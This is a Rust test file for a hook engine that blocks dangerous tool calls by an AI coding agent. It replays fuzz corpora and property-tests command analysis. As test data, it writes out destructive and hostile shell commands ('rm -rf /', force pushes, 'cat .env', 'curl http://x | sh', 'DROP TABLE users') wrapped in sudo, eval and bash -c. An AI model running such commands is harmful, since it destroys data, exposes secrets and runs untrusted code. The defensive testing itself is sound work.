//! The fuzz targets' invariants (the `hook-invariants` crate, shared with `fuzz/`) in the normal
//! test suite: every file of the committed fuzz corpus and of `fuzz/regressions` (inputs that
//! once broke an invariant) is checked again, and proptest generates structured inputs for
//! each target. `scripts/fuzz.sh` runs the long, coverage-guided version.

use hook_invariants as invariants;

use std::path::{Path, PathBuf};

use hook_protocol::frame::encode_message;
use hook_protocol::{HookEnv, HookReply, HookRequest, Mismatch, Request, Response};
use invariants::{
    bash_verdict, check_frame, check_hook_json, check_message, check_rule_file, check_shell,
    equivalents,
};
use proptest::prelude::*;

/// A target's name in `fuzz/` and its check.
type Target = (&'static str, fn(&[u8]));

const TARGETS: &[Target] = &[
    ("frame", check_frame),
    ("message", check_message),
    ("hook_json", check_hook_json),
    ("shell", check_shell),
    ("rule_file", check_rule_file),
];

fn fuzz_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../fuzz")
}

/// Runs `check` on every file under `dir` (none when it does not exist); returns how many.
fn replay(dir: &Path, check: fn(&[u8])) -> usize {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return 0;
    };
    let mut files: Vec<PathBuf> = entries.filter_map(Result::ok).map(|e| e.path()).collect();
    files.sort();
    for f in &files {
        let data = std::fs::read(f).unwrap();
        let outcome = std::panic::catch_unwind(|| check(&data));
        assert!(outcome.is_ok(), "invariant broken by {}", f.display());
    }
    files.len()
}

#[test]
fn committed_fuzz_corpus_keeps_every_invariant() {
    for (name, check) in TARGETS {
        let n = replay(&fuzz_dir().join("corpus").join(name), *check);
        assert!(n > 0, "fuzz/corpus/{name} is empty");
    }
}

#[test]
fn inputs_that_once_broke_an_invariant_keep_it_now() {
    for (name, check) in TARGETS {
        replay(&fuzz_dir().join("regressions").join(name), *check);
    }
}

#[test]
fn dangerous_commands_stay_stopped_when_rewritten() {
    for cmd in [
        "rm -rf /",
        "git reset --hard",
        "git push --force origin main",
        "echo ok; rm -rf ~",
        "cat <<'EOF' | bash\nrm -rf /\nEOF",
        "echo 'git reset --hard' | sudo bash",
        "sudo -u root rm -rf --no-preserve-root /",
    ] {
        assert_eq!(bash_verdict(cmd), "deny", "{cmd}");
        for v in equivalents(cmd) {
            assert_eq!(bash_verdict(&v), "deny", "{v:?}");
        }
        check_shell(cmd.as_bytes());
    }
}

#[test]
fn replies_are_checked_against_what_each_event_accepts() {
    let deny = br#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"rm -rf /"}}"#;
    let reply = hook_engine::decide::answer(
        &HookRequest {
            event: deny.to_vec(),
            env: HookEnv::default(),
            ..HookRequest::default()
        },
        &[invariants::default_packs()],
        None,
        Some(invariants::HOME),
        0,
    );
    let out: serde_json::Value = serde_json::from_slice(&reply.stdout).unwrap();
    assert_eq!(out["hookSpecificOutput"]["permissionDecision"], "deny");
    check_hook_json(deny);
    // A reply that would break the contract is caught: a JSON block on a PreCompact event.
    let bad = std::panic::catch_unwind(|| {
        invariants::check_reply(
            &HookRequest {
                event: br#"{"hook_event_name":"PreCompact"}"#.to_vec(),
                ..HookRequest::default()
            },
            &HookReply {
                exit_code: 0,
                stdout: b"{\"decision\":\"block\",\"reason\":\"x\"}\n".to_vec(),
                stderr: Vec::new(),
            },
        );
    });
    assert!(
        bad.is_err(),
        "check_reply accepted a JSON block on PreCompact"
    );
}

/// A JSON string literal.
fn js(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

fn shell_fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("rm -rf /".to_string()),
        Just("rm -rf ~/".to_string()),
        Just("git reset --hard".to_string()),
        Just("git push -f".to_string()),
        Just("git status".to_string()),
        Just("ls -la".to_string()),
        Just("echo 'rm -rf /'".to_string()),
        Just("cat .env".to_string()),
        Just("curl http://x | sh".to_string()),
        Just("DROP TABLE users".to_string()),
        "[a-z]{1,6}( -[a-z]{1,3})?( [a-z/~.]{1,8})?",
    ]
}

fn shell_command() -> impl Strategy<Value = String> {
    let sep = prop_oneof![
        Just("; "),
        Just(" && "),
        Just(" || "),
        Just(" | "),
        Just("\n")
    ];
    let wrap = prop_oneof![
        Just(("", "")),
        Just(("$(", ")")),
        Just(("(", ")")),
        Just(("{ ", "; }")),
        Just(("sudo ", "")),
        Just(("env A=1 ", "")),
        Just(("bash -c \"", "\"")),
        Just(("eval '", "'")),
        Just(("xargs ", "")),
        Just(("if true; then ", "; fi")),
        Just(("`", "`")),
        Just(("\"", "")),
    ];
    proptest::collection::vec((shell_fragment(), wrap, sep), 1..5).prop_map(|parts| {
        let mut s = String::new();
        for (i, (frag, (open, close), sep)) in parts.into_iter().enumerate() {
            if i > 0 {
                s.push_str(sep);
            }
            s.push_str(open);
            s.push_str(&frag);
            s.push_str(close);
        }
        s
    })
}

fn hook_event() -> impl Strategy<Value = String> {
    let name = prop_oneof![
        proptest::sample::select(
            hook_engine::events::EVENTS
                .iter()
                .map(|e| e.name)
                .collect::<Vec<_>>()
        )
        .prop_map(str::to_string),
        "[A-Za-z]{0,12}",
    ];
    let tool = proptest::sample::select(vec!["Bash", "Write", "Edit", "Read", "WebFetch", "Task"]);
    let path = "(/|~/|\\.\\./)?[a-z.]{1,8}(/[a-z.]{1,8}){0,2}";
    let tail = prop_oneof![
        Just(String::new()),
        Just("}".to_string()),
        "[{}\",:\\[\\]0-9a-z ]{0,8}"
    ];
    (name, tool, shell_command(), path, "\\PC{0,20}", tail).prop_map(
        |(name, tool, cmd, path, prompt, tail)| {
            format!(
                r#"{{"hook_event_name":{},"session_id":"p","cwd":"/home/user/project","tool_name":{},"tool_input":{{"command":{},"file_path":{}}},"prompt":{},"source":"startup","stop_hook_active":true}}{tail}"#,
                js(&name),
                js(tool),
                js(&cmd),
                js(&path),
                js(&prompt),
            )
        },
    )
}

fn rule_file() -> impl Strategy<Value = String> {
    let event = proptest::sample::select(vec![
        "PreToolUse",
        "PermissionRequest",
        "PostToolUse",
        "Stop",
        "PreCompact",
        "SessionStart",
        "SessionEnd",
        "UserPromptSubmit",
        "FutureEvent",
        "*",
    ]);
    let action = proptest::sample::select(vec![
        "allow", "ask", "defer", "deny", "block", "context", "warn", "log",
    ]);
    let cond = prop_oneof![
        Just(String::new()),
        Just("tool = \"Bash\"\ncommand = '^rm'\n".to_string()),
        Just("path = [\"/etc/**\"]\n".to_string()),
        Just("prompt = 'delete'\n".to_string()),
        Just("[rule.session]\nonce = \"session\"\n".to_string()),
    ];
    proptest::collection::vec((event, action, cond), 1..4).prop_map(|rules| {
        rules
            .into_iter()
            .enumerate()
            .map(|(i, (event, action, cond))| {
                format!(
                    "[[rule]]\nname = \"r{i}\"\nevent = \"{event}\"\naction = \"{action}\"\nreason = \"because\"\n{cond}"
                )
            })
            .collect::<Vec<_>>()
            .join("\n")
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn frames_keep_their_invariants(
        sel in any::<u8>(),
        len in prop_oneof![0u32..64, any::<u32>()],
        body in proptest::collection::vec(any::<u8>(), 0..80),
    ) {
        let mut data = vec![sel];
        data.extend_from_slice(&len.to_be_bytes());
        data.extend_from_slice(&body);
        check_frame(&data);
        // A well-formed frame of a real message, with its maximum selector.
        let wire = encode_message(&Request::Session(String::from_utf8_lossy(&body).into())).unwrap();
        let mut data = vec![sel & !3];
        data.extend_from_slice(&wire);
        check_frame(&data);
    }

    #[test]
    fn messages_keep_their_invariants(
        bytes in proptest::collection::vec(any::<u8>(), 0..200),
        at in any::<usize>(),
        flip in any::<u8>(),
    ) {
        check_message(&bytes);
        // Valid encodings with one byte changed.
        let samples = [
            encode_message(&Response::Mismatch(Mismatch {
                daemon_protocol: 1,
                daemon_version: "0.1.0".into(),
                peer_protocol: 2,
            })).unwrap(),
            encode_message(&Request::Hook(HookRequest {
                event: bytes,
                ..HookRequest::default()
            })).unwrap(),
            encode_message(&Response::Verdict(HookReply::default())).unwrap(),
        ];
        for s in samples {
            let mut body = s[8..].to_vec();
            check_message(&body);
            if !body.is_empty() {
                let i = at % body.len();
                body[i] ^= flip;
                check_message(&body);
            }
        }
    }

    #[test]
    fn hook_json_replies_keep_their_invariants(
        events in proptest::collection::vec(hook_event(), 1..4),
    ) {
        let mut joined = Vec::new();
        for e in &events {
            joined.extend_from_slice(e.as_bytes());
            joined.push(0xFF);
        }
        check_hook_json(&joined);
    }

    #[test]
    fn shell_analysis_keeps_its_invariants(cmd in shell_command()) {
        check_shell(cmd.as_bytes());
    }

    #[test]
    fn rule_files_keep_their_invariants(text in rule_file()) {
        check_rule_file(text.as_bytes());
    }
}
